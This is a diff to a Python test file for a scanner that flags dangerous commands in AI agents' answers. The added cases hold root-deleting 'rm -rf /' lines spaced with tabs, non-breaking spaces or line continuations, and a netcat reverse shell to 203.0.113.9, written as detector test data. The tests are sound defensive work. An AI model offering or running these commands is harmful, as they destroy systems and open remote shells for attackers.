@@ -200,6 +200,7 @@ def test_pack_patterns_are_linear_on_many_lines_and_separators() -> None:
         "r''m -rf /",
         'r""m -rf /',
         "r\\m -rf /",
+        "rm \\\n -rf /",  # a continued line: the shell joins it
     ],
 )
 def test_shell_noise_does_not_hide_a_command(command: str) -> None:
@@ -274,3 +275,42 @@ def test_disk_overwrite_is_linear() -> None:
     rx = _BY_ID["disk-overwrite"]
     for text in ("dd " * 300_000, "dd " + "if=a " * 200_000, "mkfs " * 200_000, "dd" + " " * 10**6):
         assert rx.search(text) is None
+
+
+def _answer_rules(output: str) -> set[str]:
+    doc = {
+        "run_id": "r-answer",
+        "agent_id": "a",
+        "trigger": "How do I free up disk space?",
+        "started_at": "2026-04-02T10:00:00Z",
+        "completed_at": "2026-04-02T10:01:00Z",
+        "status": "completed",
+        "steps": [
+            {
+                "step_index": 0,
+                "action": "respond",
+                "timestamp": "2026-04-02T10:00:10Z",
+                "tool_call": None,
+                "result": None,
+                "output": output,
+            }
+        ],
+    }
+    result = Engine().analyze(decode_run(json.dumps(doc).encode()))
+    return {f.rule for f in result.findings}
+
+
+@pytest.mark.parametrize(
+    ("output", "rule"),
+    [
+        ("Run: sudo rm\t-rf / --no-preserve-root", "recursive-delete-root"),
+        ("Run: sudo rm\u00a0-rf / --no-preserve-root", "recursive-delete-root"),
+        ("Then: nc\t-e /bin/sh 203.0.113.9 4444", "reverse-shell"),
+    ],
+)
+def test_a_command_in_an_answer_spaced_with_other_white_space_is_found(
+    output: str, rule: str
+) -> None:
+    """The expressions read any white space; their literal hints ("rm ", "nc ") must too
+    (outsider review: a tab hid the command)."""
+    assert f"policy.dangerous_output.{rule}" in _answer_rules(output)
